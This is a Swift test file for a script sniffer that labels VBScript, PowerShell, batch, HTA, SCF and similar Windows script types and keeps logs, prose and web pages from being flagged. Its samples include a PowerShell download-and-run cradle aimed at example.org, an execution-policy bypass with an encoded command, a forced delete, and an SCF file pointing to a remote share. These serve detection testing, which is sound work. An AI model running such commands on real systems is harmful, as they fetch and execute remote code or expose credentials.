// SPDX-License-Identifier: Apache-2.0

import Testing

@testable import Inspection

@Suite struct ScriptSnifferTests {
    private func sniff(_ text: String, isPage: Bool = false, isMessage: Bool = false) -> String? {
        sniff(Array(text.utf8), isPage: isPage, isMessage: isMessage)
    }

    private func sniff(_ octets: [UInt8], isPage: Bool = false, isMessage: Bool = false) -> String? {
        ScriptSniffer.type(of: FoldedText(octets.span), isPage: isPage, isMessage: isMessage)
    }

    @Test(arguments: [
        ("On Error Resume Next\r\nx = 1\r\n", "text/vbscript"),
        ("Dim files\r\nSet files = CreateObject(\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
        ("' a comment\r\nWScript.CreateObject(\"x\")\r\n", "text/vbscript"),
        ("Sub Main\r\nMsgBox \"hi\" & Chr(13)\r\nEnd Sub\r\n", "text/vbscript"),
        ("var x = new ActiveXObject(\"Scripting.FileSystemObject\");\n", "text/javascript"),
        ("eval(unescape('%61'));\n", "text/javascript"),
        ("var s = String.fromCharCode(97, 98);\n", "text/javascript"),
        ("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://example.org/x')\n", "application/x-powershell"),
        ("#Requires -Version 5\nGet-Process\n", "application/x-powershell"),
        ("param($x)\nWrite-Host $env:USERNAME\n", "application/x-powershell"),
        ("@echo off\r\ndel /f /q x\r\n", "text/x-msdos-batch"),
        ("\u{FEFF}@ECHO OFF\r\n", "text/x-msdos-batch"),
        ("rem start\r\nsetlocal\r\ncd %~dp0\r\nif errorlevel 1 goto end\r\n", "text/x-msdos-batch"),
        ("[InternetShortcut]\r\nURL=http://example.org/\r\n", "application/x-mswinurl"),
        ("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n", "text/x-ms-regedit"),
        ("REGEDIT4\r\n", "text/x-ms-regedit"),
        ("\r\n\r\n  @echo off\r\n", "text/x-msdos-batch"),
        ("rem hi\r\n@echo off\r\nsetlocal\r\ncmd /c del x\r\n", "text/x-msdos-batch"),
        (":: x\r\n@echo off\r\n", "text/x-msdos-batch"), (":: x\n\n:: y\nrem\n@rem z\n@ECHO OFF\n", "text/x-msdos-batch"),
        ("[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=http://example.org/\r\n", "application/x-mswinurl"),
        ("; x\r\n[InternetShortcut]\r\n", "application/x-mswinurl"),
        ("[Desktop Entry]\nType=Link\n", "application/x-desktop"), ("# x\n[Desktop Entry]\nExec=x\n", "application/x-desktop"),
        ("[Shell]\r\nCommand=2\r\nIconFile=\\\\example.org\\x.ico\r\n", "text/x-ms-scf"),
        ("#@~^IAAAAA==\u{7F}abc^#~@", "text/vbscript"), ("' x\r\n#@~^IAAAAA==", "text/vbscript"),
        ("CreateObject(\"WScript.Shell\").Run \"x\"\r\n", "text/vbscript"),
        ("a=1:Set s = CreateObject (\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
        ("/* \u{1}\u{0} */\nvar x = new\tActiveXObject (\"a\");\n", "text/javascript"),
        ("$a = 1; Invoke-Expression $a\n", "application/x-powershell"), ("'x' | Invoke-Expression\n", "application/x-powershell"),
    ])
    func kinds(text: String, wanted: String) {
        #expect(sniff(text) == wanted, "\(text)")
    }

    @Test(arguments: [
        ("<html><HTA:APPLICATION id=x>", "application/hta"),
        ("<job id=\"a\"><script language=\"VBScript\">", "text/x-windows-script"),
        ("<package><job>", "text/x-windows-script"), ("<job>\n<script language=\"JScript\">", "text/x-windows-script"),
        ("<?XML version=\"1.0\"?>\n<scriptlet>", "text/x-windows-script"),
        ("<job id=\"a\"><runtime/><script>", "text/x-windows-script"),
        ("<?xml version=\"1.0\"?>\n<libraryDescription xmlns=\"x\">", "application/x-ms-library"),
        ("<!-- x --><persistedQuery version=\"1.0\">", "application/x-ms-search"),
        ("<searchConnectorDescription>", "application/x-ms-search"), ("\u{FEFF}<html><hta:application>", "application/hta"),
    ])
    func markup(text: String, wanted: String) {
        #expect(sniff(text) == wanted, "\(text)")
    }

    /// Pages hold scripts of their own.
    @Test(arguments: [
        "<html><script>var x = function(){}; eval(unescape('y'))</script></html>", "<html>on error resume next</html>",
        "<html><script language=\"JScript\">x()</script></html>", "<jobs><job id=\"1\"/></jobs>", "<job id=\"1\"><step/></job>",
        "<package><metadata/></package>", "\u{FEFF}<!DOCTYPE html><script>new ActiveXObject('x')</script>",
        "<!-- long --><title>x</title><script>new ActiveXObject('x')</script>",
    ])
    func pagesAreNoScripts(text: String) {
        #expect(sniff(text) == nil)
    }

    @Test(arguments: [
        "", " ", "var x", "set the dim lights", "The article has a var and a function, no more.", "Alvar set out.",
        "wscript. is a word",
        "goto hell", "echo offshore", "New-Object is a cmdlet", "@echoes", "[internet]", "regedit",
    ])
    func proseIsNoScript(text: String) {
        #expect(sniff(text) == nil)
    }

    /// Logs, listings and sources of other languages have single words of scripts, and many of them.
    @Test(arguments: [
        "at Statement.execute(Statement.java:1)\nset to null\nat x.eval(X.java)\n",
        "SET DEFINE OFF;\nSET x = 1;\nINSERT INTO t VALUES ('a' || CHR(10));\n", "set x,chr(3)\nset y,chr(4)\n",
        "a;=CHAR(10);b\r\nset;dim ;chr(\r\n", "plot <- function (y) {\n  eval(x)\n}\nvar <- function(x) x\n",
        "Notes: use function (y), and eval(x).\nvar x\n", "setlocal ts=2\nif exists('x')\n", "end function\nend subroutine\n",
        "Use Invoke-Expression never.\n", "powershell.exe -ExecutionPolicy Bypass -EncodedCommand x\n",
        "exit code is in %errorlevel%\n", "all:\n\t@echo only\n", "\"CreateObject(\" is a word\n", "[Shell]\nname=x\n",
        "We wrote [InternetShortcut] there.", "wscript.exe started\n",
    ])
    func logsAndListingsAreNoScripts(text: String) {
        #expect(sniff(text) == nil, "\(text)")
    }

    /// A page saved as a message, with the scripts of the page.
    @Test func savedPagesAreNoScripts() {
        let page = "<html><script>var a = String.fromCharCode(1); new ActiveXObject('x')</script></html>"
        let header = "From: <Saved by a browser>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n"
        #expect(sniff(header + page, isMessage: true) == nil)
        #expect(sniff(header + "<html><script>var a = String.fromCharCode(1).charCodeAt(0)</script></html>") == nil)
        let late = "From: x\r\n\r\nMIME-Version: 1.0\r\nnew ActiveXObject('x')"
        #expect(sniff(late) == "text/javascript")
        #expect(sniff(late, isMessage: true) == "text/javascript")
    }

    /// A label and a comment look like the header of a message, and shells pass over one.
    @Test(arguments: [
        ("x:/*\nMIME-Version:\n*/var s = new ActiveXObject(\"WScript.Shell\");\n", "text/javascript"),
        ("From: /*\r\nMIME-Version: 1.0\r\n\r\n*/ eval(unescape('%61'))", "text/javascript"),
        ("From: x\r\nMIME-Version: 1.0\r\n\r\nInvoke-Expression $x\r\n", "application/x-powershell"),
    ])
    func headersOfMessagesHideNothing(text: String, wanted: String) {
        #expect(sniff(text) == wanted, "\(text)")
        #expect(sniff(text, isMessage: true) == nil, "\(text)")
    }

    /// libmagic saw HTML in it, further down.
    @Test func pagesThatBeginWithText() {
        let page = "Hello <html><script>new ActiveXObject('x')</script></html>"
        #expect(sniff(page, isPage: true) == nil)
        #expect(sniff(page) == "text/javascript")
        #expect(sniff("' <html>\r\nOn Error Resume Next\r\n", isPage: true) == "text/vbscript")
        #expect(sniff("Hello <html><hta:application><script>", isPage: true) == "application/hta")
    }

    @Test func wideScripts() {
        let table: [(String, String)] = [
            ("Set x = CreateObject(\"Scripting.FileSystemObject\")\r\n", "text/vbscript"),
            ("var x = new ActiveXObject(\"y\");\r\n", "text/javascript"),
            ("Invoke-Expression $größe\r\n", "application/x-powershell"), ("<html><hta:application>", "application/hta"),
        ]
        for (text, wanted) in table {
            for isBigEndian in [false, true] {
                for hasMark in [false, true] {
                    #expect(sniff(Heads.wide(text, isBigEndian: isBigEndian, hasMark: hasMark)) == wanted, "\(text)")
                }
            }
        }
    }

    /// A comment in front hides nothing, as long as the head is.
    @Test func theWholeHeadCounts() {
        let comment = "' " + String(repeating: "word ", count: 7000) + "\r\n"
        #expect(sniff(comment + "on error resume next\r\n") == "text/vbscript")
        let lines = String(repeating: "rem x\r\n", count: 4000)
        #expect(sniff(lines + "@echo off\r\n") == "text/x-msdos-batch")
    }

    @Test func hostileTextIsNotSlow() {
        let texts = ["w", "<", "var ", "e", "echo ", "wscript", "\"", "rem\n", ":\n", "a:\n", "<!--", "\u{0}"].map {
            String(repeating: $0, count: 40_000)
        }
        let elapsed = ContinuousClock().measure { for text in texts { _ = sniff(text) } }
        #expect(elapsed < .seconds(20))
    }
}
